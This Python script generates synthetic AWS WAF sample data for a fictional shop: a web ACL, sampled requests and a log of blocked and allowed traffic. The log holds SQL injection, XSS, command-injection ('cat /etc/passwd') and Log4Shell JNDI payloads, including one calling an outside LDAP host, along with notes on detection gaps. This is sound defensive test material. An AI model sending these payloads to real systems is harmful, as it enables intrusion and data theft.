"""WAFv2 samples for November: get-web-acl, get-sampled-requests and an S3 WAF log (gzip JSON Lines)."""
import base64
import datetime as _dt
import gzip
import io
import json

from samples_common import PROD, REGION, det_hex, det_uuid, dump_json, parse_day, rng, write_bytes, write_text

ACL_NAME = "shop-prod-alb"
ACL_ID = det_uuid("webacl")
ACL_ARN = "arn:aws:wafv2:%s:%s:regional/webacl/%s/%s" % (REGION, PROD, ACL_NAME, ACL_ID)
ALB_ID = det_uuid("alb", PROD).replace("-", "")[:16]
HTTP_SOURCE_ID = "%s-app/shop-prod-alb/%s" % (PROD, ALB_ID)
LABEL_NS = "awswaf:%s:webacl:%s:" % (PROD, ACL_NAME)

R_RATE, R_IPREP, R_COMMON, R_KBI, R_SQLI, R_CUSTOM = (
    "shop-rate-limit", "AWS-AWSManagedRulesAmazonIpReputationList", "AWS-AWSManagedRulesCommonRuleSet",
    "AWS-AWSManagedRulesKnownBadInputsRuleSet", "AWS-AWSManagedRulesSQLiRuleSet", "block-sqlmap-on-api")
GROUPS = [(R_IPREP, "AWSManagedRulesAmazonIpReputationList"), (R_COMMON, "AWSManagedRulesCommonRuleSet"),
          (R_KBI, "AWSManagedRulesKnownBadInputsRuleSet"), (R_SQLI, "AWSManagedRulesSQLiRuleSet")]


def vis(metric):
    return {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": metric}


def b64(s):
    return base64.b64encode(s.encode()).decode()


def web_acl():
    def managed(prio, name, group, override, extra=None):
        st = {"VendorName": "AWS", "Name": group}
        if extra:
            st.update(extra)
        return {"Name": name, "Priority": prio, "Statement": {"ManagedRuleGroupStatement": st},
                "OverrideAction": {override: {}}, "VisibilityConfig": vis(name)}
    rules = [
        {"Name": R_RATE, "Priority": 0,
         "Statement": {"RateBasedStatement": {"Limit": 2000, "EvaluationWindowSec": 300,
                                              "AggregateKeyType": "IP"}},
         "Action": {"Block": {}}, "VisibilityConfig": vis(R_RATE)},
        managed(1, R_IPREP, "AWSManagedRulesAmazonIpReputationList", "None"),
        managed(2, R_COMMON, "AWSManagedRulesCommonRuleSet", "None",
                {"RuleActionOverrides": [{"Name": "SizeRestrictions_BODY", "ActionToUse": {"Count": {}}}]}),
        managed(3, R_KBI, "AWSManagedRulesKnownBadInputsRuleSet", "Count"),
        managed(4, R_SQLI, "AWSManagedRulesSQLiRuleSet", "None"),
        {"Name": R_CUSTOM, "Priority": 5,
         "Statement": {"AndStatement": {"Statements": [
             {"ByteMatchStatement": {"SearchString": b64("sqlmap"),
                                     "FieldToMatch": {"SingleHeader": {"Name": "user-agent"}},
                                     "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}],
                                     "PositionalConstraint": "CONTAINS"}},
             {"ByteMatchStatement": {"SearchString": b64("/api/"),
                                     "FieldToMatch": {"UriPath": {}},
                                     "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                                     "PositionalConstraint": "STARTS_WITH"}}]}},
         "Action": {"Block": {}}, "VisibilityConfig": vis(R_CUSTOM)},
    ]
    return {"WebACL": {
        "Name": ACL_NAME, "Id": ACL_ID, "ARN": ACL_ARN,
        "DefaultAction": {"Allow": {}},
        "Description": "Example Shop production ALB | managed rules + rate limit (KnownBadInputs still in `Count`)",
        "Rules": rules,
        "VisibilityConfig": vis(ACL_NAME),
        "Capacity": 1027,
        "ManagedByFirewallManager": False,
        "LabelNamespace": LABEL_NS,
    }, "LockToken": det_uuid("locktoken")}


# ---------------- request generation ----------------
COUNTRIES = ["IE", "IE", "IE", "GB", "GB", "DE", "FR", "NL", "ES", "US"]
PAGES = ["/", "/products", "/products/1042", "/products/2210", "/cart", "/api/cart", "/api/products",
         "/static/app.9f3c1e.js", "/static/styles.css", "/favicon.ico", "/login", "/search",
         "/api/checkout", "/health"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
       "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"]
SQLI = [("/search", "q=1%27%20OR%201%3D1--", "SQLi_QUERYARGUMENTS", "QUERY_STRING", ["1' OR 1=1--"]),
        ("/products", "id=1 UNION SELECT username,password FROM users--", "SQLi_QUERYARGUMENTS",
         "QUERY_STRING", ["1 UNION SELECT username,password FROM users--"]),
        ("/products/1' OR '1'='1", "", "SQLi_URIPATH", "URI", ["1' OR '1'='1"]),
        ("/api/products", "sort=price&category=' OR 1=1--", "SQLi_QUERYARGUMENTS", "QUERY_STRING",
         ["' OR 1=1--"])]
XSS = [("/search", "q=<script>alert(1)</script>", "CrossSiteScripting_QUERYARGUMENTS", "QUERY_STRING",
        ["<script", "alert(1)"]),
       ("/search", "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "CrossSiteScripting_QUERYARGUMENTS",
        "QUERY_STRING", ["\"><img src=x onerror=alert(1)>"]),
       ("/products/\"><img src=x onerror=alert(1)>", "", "CrossSiteScripting_URIPATH", "URI",
        ["\"><img src=x onerror=alert(1)>"])]
LABELS = {
    "SQLi_QUERYARGUMENTS": "awswaf:managed:aws:sql-database:SQLi_QueryArguments",
    "SQLi_URIPATH": "awswaf:managed:aws:sql-database:SQLi_URIPath",
    "CrossSiteScripting_QUERYARGUMENTS": "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments",
    "CrossSiteScripting_URIPATH": "awswaf:managed:aws:core-rule-set:CrossSiteScripting_URIPath",
    "AWSManagedIPReputationList": "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList",
    "Log4JRCE_HEADER": "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header",
    "ExploitablePaths_URIPATH": "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath",
}


def ip(r, net=None):
    net = net or r.choice(["192.0.2", "198.51.100", "203.0.113"])
    return "%s.%d" % (net, r.randint(1, 254))


def group_entry(gid, term=None, nonterm=None):
    return {"ruleGroupId": "AWS#" + gid, "terminatingRule": term,
            "nonTerminatingMatchingRules": nonterm or [], "excludedRules": None}


def build_requests():
    r = rng("waf-log")
    start = parse_day("2026-11-01")
    reqs = []

    def when():
        return start + _dt.timedelta(seconds=r.randint(0, 29 * 86400 + 86399), milliseconds=r.randint(0, 999))

    def base(kind, t, cip, country, method, uri, args, ua, extra_headers=()):
        return {"kind": kind, "t": t, "ip": cip, "country": country, "method": method, "uri": uri,
                "args": args, "ua": ua, "extra": list(extra_headers)}

    for _ in range(330):
        page = r.choice(PAGES)
        method = "POST" if page in ("/api/checkout", "/login") or (page == "/api/cart" and r.random() < .5) else "GET"
        args = "q=winter+boots&page=%d" % r.randint(1, 4) if page == "/search" else ""
        reqs.append(base("allow", when(), ip(r), r.choice(COUNTRIES), method, page, args, r.choice(UAS)))
    # a hostile but harmless-looking query: pipes and backticks reach the app (allowed)
    for _ in range(4):
        reqs.append(base("allow", when(), ip(r, "198.51.100"), "NL", "GET", "/search",
                         "q=%60id%60|cat+/etc/passwd", "curl/8.5.0"))
    for _ in range(32):
        reqs.append(base("sqli", when(), ip(r, "203.0.113"), r.choice(["CN", "RU", "US", "BR"]), "GET",
                         *r.choice(SQLI)[:2], r.choice(UAS + ["python-requests/2.32.3"])))
    for _ in range(26):
        reqs.append(base("xss", when(), ip(r, "198.51.100"), r.choice(["VN", "US", "DE", "IN"]), "GET",
                         *r.choice(XSS)[:2], r.choice(UAS)))
    # SQLi / XSS in the User-Agent: no managed rule inspects that header -> allowed
    for i in range(6):
        ua = ["Mozilla/5.0' OR 1=1--", "<script>alert(1)</script>",
              "\"><img src=x onerror=alert(1)>"][i % 3]
        reqs.append(base("allow", when(), ip(r, "203.0.113"), "US", "GET", "/products", "", ua))
    for _ in range(9):
        reqs.append(base("custom", when(), "192.0.2.200", "RU", "GET", "/api/products",
                         "id=1 UNION SELECT NULL,NULL--", "sqlmap/1.8.11#stable (https://sqlmap.org)"))
    for _ in range(21):
        reqs.append(base("iprep", when(), ip(r, "192.0.2"), r.choice(["RU", "CN", "KP", "IR"]), "GET",
                         r.choice(["/", "/login", "/wp-login.php", "/.env"]), "", r.choice(UAS)))
    for i in range(16):
        if i % 2:
            reqs.append(base("kbi-log4j", when(), ip(r, "198.51.100"), "US", "GET", "/", "", r.choice(UAS),
                             [("X-Api-Version", "${jndi:ldap://198.51.100.250:1389/a}")]))
        else:
            reqs.append(base("kbi-path", when(), ip(r, "203.0.113"), "SG", "GET", "/.git/config", "",
                             "Go-http-client/1.1"))
    # rate-limit burst on 17 Nov from one address: first 24 allowed, then 64 blocked
    burst_ip = "203.0.113.66"
    t0 = parse_day("2026-11-17") + _dt.timedelta(hours=2, minutes=13)
    for i in range(88):
        t = t0 + _dt.timedelta(milliseconds=i * 1850 + r.randint(0, 900))
        reqs.append(base("allow" if i < 24 else "rate", t, burst_ip, "DE", "GET", "/api/products",
                         "page=%d" % (i + 1), "python-requests/2.32.3"))
    reqs.sort(key=lambda q: (q["t"], q["ip"], q["uri"]))
    return reqs


def log_record(q, n):
    ts = int(q["t"].timestamp() * 1000)
    headers = [{"name": "Host", "value": "shop.example.com"},
               {"name": "User-Agent", "value": q["ua"]},
               {"name": "Accept", "value": "*/*" if not q["ua"].startswith("Mozilla/5.0 (") else
                "text/html,application/xhtml+xml"},
               {"name": "X-Forwarded-For", "value": q["ip"]}] + [{"name": k, "value": v} for k, v in q["extra"]]
    rec = {
        "timestamp": ts, "formatVersion": 1, "webaclId": ACL_ARN,
        "terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": "ALLOW",
        "terminatingRuleMatchDetails": [], "httpSourceName": "ALB", "httpSourceId": HTTP_SOURCE_ID,
        "ruleGroupList": [], "rateBasedRuleList": [], "nonTerminatingMatchingRules": [],
        "requestHeadersInserted": None, "responseCodeSent": None,
        "httpRequest": {"clientIp": q["ip"], "country": q["country"], "headers": headers, "uri": q["uri"],
                        "args": q["args"], "httpVersion": "HTTP/1.1" if n % 5 else "HTTP/2.0",
                        "httpMethod": q["method"],
                        "requestId": "1-%08x-%s" % (ts // 1000, det_hex(24, "req", n))},
        "labels": [],
    }
    all_groups = [group_entry(g) for _, g in GROUPS]
    k = q["kind"]
    if k == "rate":
        rec.update(terminatingRuleId=R_RATE, terminatingRuleType="RATE_BASED", action="BLOCK")
        rec["rateBasedRuleList"] = [{"rateBasedRuleId": det_uuid("rate-rule"), "rateBasedRuleName": R_RATE,
                                     "limitKey": "IP", "maxRateAllowed": 2000, "evaluationWindowSec": "300",
                                     "limitValue": q["ip"]}]
        rec["labels"] = [{"name": LABEL_NS + "rate-limited"}]
        return rec
    if k == "iprep":
        rec.update(terminatingRuleId=R_IPREP, terminatingRuleType="MANAGED_RULE_GROUP", action="BLOCK")
        rec["ruleGroupList"] = [group_entry(GROUPS[0][1], {"ruleId": "AWSManagedIPReputationList",
                                                           "action": "BLOCK", "ruleMatchDetails": None})]
        rec["labels"] = [{"name": LABELS["AWSManagedIPReputationList"]}]
        return rec
    if k in ("sqli", "xss"):
        pool = SQLI if k == "sqli" else XSS
        spec = next(p for p in pool if p[0] == q["uri"] and p[1] == q["args"])
        _, _, rule, loc, data = spec
        details = [{"conditionType": "SQL_INJECTION" if k == "sqli" else "XSS", "location": loc,
                    "matchedData": data}]
        if k == "sqli":
            details[0]["sensitivityLevel"] = "LOW"
        if loc == "QUERY_STRING":
            details[0]["matchedFieldName"] = q["args"].split("=", 1)[0] if "&" not in q["args"] else "category"
        gi = 3 if k == "sqli" else 1
        rec.update(terminatingRuleId=GROUPS[gi][0], terminatingRuleType="MANAGED_RULE_GROUP", action="BLOCK",
                   terminatingRuleMatchDetails=details)
        groups = all_groups[:gi + 1]
        groups[gi] = group_entry(GROUPS[gi][1], {"ruleId": rule, "action": "BLOCK", "ruleMatchDetails": details})
        rec["ruleGroupList"] = groups
        rec["labels"] = [{"name": LABELS[rule]}]
        return rec
    if k.startswith("kbi"):
        rule = "Log4JRCE_HEADER" if k == "kbi-log4j" else "ExploitablePaths_URIPATH"
        all_groups[2] = group_entry(GROUPS[2][1], None, [{"ruleId": rule, "action": "COUNT",
                                                         "ruleMatchDetails": []}])
        rec["ruleGroupList"] = all_groups
        rec["nonTerminatingMatchingRules"] = [{"ruleId": R_KBI, "action": "COUNT", "ruleMatchDetails": []}]
        rec["labels"] = [{"name": LABELS[rule]}]
        return rec
    if k == "custom":
        rec.update(terminatingRuleId=R_CUSTOM, terminatingRuleType="REGULAR", action="BLOCK")
        rec["ruleGroupList"] = all_groups
        return rec
    rec["ruleGroupList"] = all_groups
    return rec


def sampled_requests():
    r = rng("waf-sampled")
    t0 = parse_day("2026-11-29") + _dt.timedelta(hours=9)
    out = []
    for i in range(40):
        t = t0 + _dt.timedelta(seconds=r.randint(0, 3 * 3600 - 1), milliseconds=r.randint(0, 999))
        kind = r.choice(["allow"] * 7 + ["sqli", "xss", "iprep", "kbi"])
        page, args = r.choice(PAGES), ""
        action, rule, labels = "ALLOW", None, []
        country = r.choice(COUNTRIES)
        headers = [{"Name": "Host", "Value": "shop.example.com"}, {"Name": "User-Agent", "Value": r.choice(UAS)}]
        if kind == "sqli":
            page, args, rule = SQLI[i % 2][0], SQLI[i % 2][1], "AWS#AWSManagedRulesSQLiRuleSet#SQLi_QUERYARGUMENTS"
            action, labels, country = "BLOCK", [{"Name": LABELS["SQLi_QUERYARGUMENTS"]}], "BR"
        elif kind == "xss":
            page, args = XSS[0][0], XSS[0][1]
            rule = "AWS#AWSManagedRulesCommonRuleSet#CrossSiteScripting_QUERYARGUMENTS"
            action, labels, country = "BLOCK", [{"Name": LABELS["CrossSiteScripting_QUERYARGUMENTS"]}], "VN"
        elif kind == "iprep":
            rule = "AWS#AWSManagedRulesAmazonIpReputationList#AWSManagedIPReputationList"
            action, labels, country = "BLOCK", [{"Name": LABELS["AWSManagedIPReputationList"]}], "RU"
        elif kind == "kbi":
            page, rule, action = "/.git/config", "AWS#AWSManagedRulesKnownBadInputsRuleSet#ExploitablePaths_URIPATH", "COUNT"
            labels = [{"Name": LABELS["ExploitablePaths_URIPATH"]}]
        s = {"Request": {"ClientIP": ip(r), "Country": country, "URI": page + ("?" + args if args else ""),
                         "Method": "GET", "HTTPVersion": "HTTP/2.0", "Headers": headers},
             "Weight": 1 if kind != "allow" else r.choice([1, 1, 1, 2, 4]),
             "Timestamp": round(t.timestamp(), 3), "Action": action}
        if rule:
            s["RuleNameWithinRuleGroup"] = rule
        if labels:
            s["Labels"] = labels
        out.append(s)
    out.sort(key=lambda s: s["Timestamp"])
    return {"SampledRequests": out, "PopulationSize": 1873,
            "TimeWindow": {"StartTime": round(t0.timestamp(), 3),
                           "EndTime": round((t0 + _dt.timedelta(hours=3)).timestamp(), 3)}}


def write():
    write_text("2026-11/waf/web-acl.json", dump_json(web_acl()))
    write_text("2026-11/waf/sampled-requests.json", dump_json(sampled_requests()))
    reqs = build_requests()
    lines = "".join(json.dumps(log_record(q, n), ensure_ascii=False, separators=(",", ":")) + "\n"
                    for n, q in enumerate(reqs))
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
        gz.write(lines.encode("utf-8"))
    write_bytes("2026-11/waf/waf-log.jsonl.gz", buf.getvalue())
    recs = [log_record(q, n) for n, q in enumerate(reqs)]
    stats = {"total": len(recs), "ALLOW": sum(1 for x in recs if x["action"] == "ALLOW"),
             "BLOCK": sum(1 for x in recs if x["action"] == "BLOCK"), "by_rule": {}}
    for x in recs:
        if x["action"] == "BLOCK":
            stats["by_rule"][x["terminatingRuleId"]] = stats["by_rule"].get(x["terminatingRuleId"], 0) + 1
    stats["counted_kbi"] = sum(1 for x in recs if x["nonTerminatingMatchingRules"])
    return stats
